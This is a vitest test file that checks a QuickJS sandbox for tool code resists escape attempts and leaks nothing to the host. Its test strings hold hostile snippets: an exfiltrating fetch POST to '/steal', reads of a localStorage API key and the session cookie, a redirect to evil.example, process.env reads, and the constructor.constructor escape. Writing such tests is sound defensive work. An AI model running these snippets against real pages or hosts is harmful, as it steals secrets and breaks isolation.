// Escape attempts from inside a tool implementation, each run through the product's runner
// (sandboxToolRunner → runToolCode → QuickJS). run-tool.test.ts checks that the host names are
// `undefined` inside; here each capability is actually used, while the host HAS it (a spy stands in
// where Node lacks it, as a page or a worker would have it), and the test checks both sides: the
// attempt fails inside, and nothing reached the host (no request, no call, no write, no global).
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { IDBFactory } from 'fake-indexeddb';
import { describe, expect, it, vi } from 'vitest';
import { attempt, watchHost } from './testing';

const host = watchHost();

describe('the network and the page, which the host has, are out of reach', () => {
  it('fetch: the call fails inside and no request reaches the server', async () => {
    const hostFetch = vi.fn(globalThis.fetch);
    vi.stubGlobal('fetch', hostFetch);
    const out = await attempt('const r = await fetch(url, { method: "POST", body: JSON.stringify(this) }); return await r.text();', { args: { url: `${host.baseUrl}/steal` }, state: { phone: '555' } });
    expect(out.error).toMatch(/'fetch' is not defined/);
    expect(out.result).toBeUndefined();
    expect(hostFetch).not.toHaveBeenCalled();
    expect(host.seen).toEqual({ requests: 0, upgrades: 0, connections: 0 });
    // The control: the same request from the host does arrive.
    expect(await (await fetch(`${host.baseUrl}/control`)).text()).toBe('host data');
    expect(host.seen.requests).toBe(1);
  });

  it('XMLHttpRequest: cannot be constructed inside; the host class is never touched', async () => {
    const constructed = vi.fn();
    vi.stubGlobal('XMLHttpRequest', class { constructor() { constructed(); } });
    const out = await attempt('const x = new XMLHttpRequest(); x.open("GET", url); x.send(); return "sent";', { args: { url: `${host.baseUrl}/xhr` } });
    expect(out.error).toMatch(/'XMLHttpRequest' is not defined/);
    expect(constructed).not.toHaveBeenCalled();
    expect(host.seen).toEqual({ requests: 0, upgrades: 0, connections: 0 });
  });

  it('WebSocket: no socket is opened, no upgrade reaches the server', async () => {
    const constructed = vi.fn();
    vi.stubGlobal('WebSocket', class { constructor(url: string) { constructed(url); } });
    const out = await attempt('const ws = new WebSocket(url); ws.onopen = () => ws.send("hi"); return "opened";', { args: { url: host.baseUrl.replace('http', 'ws') } });
    expect(out.error).toMatch(/'WebSocket' is not defined/);
    expect(constructed).not.toHaveBeenCalled();
    expect(host.seen).toEqual({ requests: 0, upgrades: 0, connections: 0 });
  });

  it('indexedDB: no database is opened or created in the host', async () => {
    const hostDb = new IDBFactory();
    const open = vi.spyOn(hostDb, 'open');
    vi.stubGlobal('indexedDB', hostDb);
    const out = await attempt('const req = indexedDB.open("callboard-projects", 99); req.onsuccess = () => req.result.deleteObjectStore("projects"); return "opened";');
    expect(out.error).toMatch(/'indexedDB' is not defined/);
    expect(open).not.toHaveBeenCalled();
    expect(await hostDb.databases()).toEqual([]);
  });

  it('localStorage: the host store is neither read nor written', async () => {
    const store = new Map([['callboard-llm-key', 'sk-host-secret']]);
    const storage = {
      getItem: vi.fn((k: string) => store.get(k) ?? null),
      setItem: vi.fn((k: string, v: string) => void store.set(k, v)),
      removeItem: vi.fn((k: string) => void store.delete(k)),
      clear: vi.fn(() => store.clear()),
    };
    vi.stubGlobal('localStorage', storage);
    const out = await attempt('const key = localStorage.getItem("callboard-llm-key"); localStorage.clear(); return key;');
    expect(out.error).toMatch(/'localStorage' is not defined/);
    expect(out.result).toBeUndefined();
    expect(JSON.stringify(out)).not.toContain('sk-host-secret');
    for (const method of Object.values(storage)) expect(method).not.toHaveBeenCalled();
    expect([...store]).toEqual([['callboard-llm-key', 'sk-host-secret']]);
  });

  it('document: the host cookie is neither read nor written', async () => {
    const hostDocument = { cookie: 'session=host-secret', title: 'Callboard' };
    vi.stubGlobal('document', hostDocument);
    const out = await attempt('const c = document.cookie; document.cookie = "session=guest"; document.title = "pwned"; return c;');
    expect(out.error).toMatch(/'document' is not defined/);
    expect(JSON.stringify(out)).not.toContain('host-secret');
    expect(hostDocument).toEqual({ cookie: 'session=host-secret', title: 'Callboard' });
  });

  it('window (and its aliases self, top, parent, frames): not there, so the page cannot be steered', async () => {
    const hostWindow = { name: 'callboard', location: { href: 'http://127.0.0.1:5173/' } };
    vi.stubGlobal('window', hostWindow);
    vi.stubGlobal('self', hostWindow);
    const out = await attempt(`
      const reached: string[] = [];
      for (const name of ["window", "self", "top", "parent", "frames"]) {
        const w = (globalThis as any)[name];
        if (w !== undefined) { reached.push(name); w.name = "guest"; w.location.href = "https://evil.example/"; }
      }
      window.name = "guest";
      return reached;`);
    expect(out.error).toMatch(/'window' is not defined/);
    expect(hostWindow).toEqual({ name: 'callboard', location: { href: 'http://127.0.0.1:5173/' } });
  });
});

describe('Node, which the host is, is out of reach', () => {
  it('process: no exit, no environment read or written', async () => {
    const exit = vi.spyOn(process, 'exit').mockImplementation((() => undefined) as never);
    vi.stubEnv('CALLBOARD_ESCAPE_SECRET', 'host-secret');
    const out = await attempt('const secret = process.env.CALLBOARD_ESCAPE_SECRET; process.env.CALLBOARD_ESCAPE_WRITE = "guest"; process.exit(3); return secret;');
    expect(out.error).toMatch(/'process' is not defined/);
    expect(exit).not.toHaveBeenCalled();
    expect(process.env.CALLBOARD_ESCAPE_WRITE).toBeUndefined();
    expect(JSON.stringify(out)).not.toContain('host-secret');
  });

  it('require: no module is loaded, no file is written', async () => {
    const hostRequire = vi.fn();
    vi.stubGlobal('require', hostRequire);
    const file = join(host.dir, 'written-by-require.txt');
    const out = await attempt('require("node:fs").writeFileSync(file, "escaped"); return "written";', { args: { file } });
    expect(out.error).toMatch(/'require' is not defined/);
    expect(hostRequire).not.toHaveBeenCalled();
    expect(existsSync(file)).toBe(false);
  });

  it('import(): a built-in, a file on disk and a relative path all fail to load; the module never runs', async () => {
    // A real module on disk that would mark the host global if it were ever evaluated.
    const probe = join(host.dir, 'probe.mjs');
    writeFileSync(probe, 'globalThis.__callboardImported = true;\nexport default "loaded";\n');
    const file = join(host.dir, 'written-by-import.txt');
    const out = await attempt(
      `const failures: string[] = [];
      for (const specifier of ["node:fs", probeUrl, probePath, "./run-tool"]) {
        try {
          const m: any = await import(specifier);
          if (m.writeFileSync) m.writeFileSync(file, "escaped");
          return "loaded " + specifier;
        } catch (e: any) {
          failures.push(String(e && e.message));
        }
      }
      return failures;`,
      { args: { probeUrl: pathToFileURL(probe).href, probePath: probe, file } },
    );
    expect(out.error).toBeUndefined();
    expect(out.result).toHaveLength(4);
    for (const message of out.result as string[]) expect(message).toMatch(/^could not load module '/);
    expect((globalThis as { __callboardImported?: unknown }).__callboardImported).toBeUndefined();
    expect(existsSync(file)).toBe(false);
  });

  it("globalThis.constructor.constructor('return process')() finds no process (the Function constructor is the guest's)", async () => {
    const exit = vi.spyOn(process, 'exit').mockImplementation((() => undefined) as never);
    const out = await attempt('const p = globalThis.constructor.constructor("return process")(); p.exit(4); return p.pid;');
    expect(out.error).toMatch(/'process' is not defined/);
    expect(exit).not.toHaveBeenCalled();
    // Through the state copy's and an array's constructors, too: all lead to the same guest Function.
    const via = await attempt('return [this.constructor.constructor, [].constructor.constructor, (async () => 0).constructor.constructor].map((F) => F("return typeof process")());', { state: { a: 1 } });
    expect(via.result).toEqual(['undefined', 'undefined', 'undefined']);
  });

  it("Function('return this')() is the guest's own global: no host global on it, nothing written through it reaches the host", async () => {
    vi.stubGlobal('__callboardHostMarker', 'host-only');
    const out = await attempt(`
      const g = Function("return this")();
      g.__callboardLeak = "guest";
      g.Object.prototype.fromGlobal = 1;
      return { same: g === globalThis, marker: typeof g.__callboardHostMarker, names: Object.getOwnPropertyNames(g) };`);
    expect(out.error).toBeUndefined();
    const seenInside = out.result as { same: boolean; marker: string; names: string[] };
    expect(seenInside.same).toBe(true);
    expect(seenInside.marker).toBe('undefined');
    const hostOnly = ['__callboardHostMarker', 'process', 'global', 'Buffer', 'require', 'fetch', 'setTimeout', 'setInterval', 'setImmediate', 'queueMicrotask', 'structuredClone', 'WebAssembly', 'navigator', 'crypto', 'performance', '__log', '__input'];
    expect(seenInside.names.filter((name) => hostOnly.includes(name))).toEqual([]);
    expect((globalThis as { __callboardLeak?: unknown }).__callboardLeak).toBeUndefined();
    expect(({} as { fromGlobal?: unknown }).fromGlobal).toBeUndefined();
  });
});
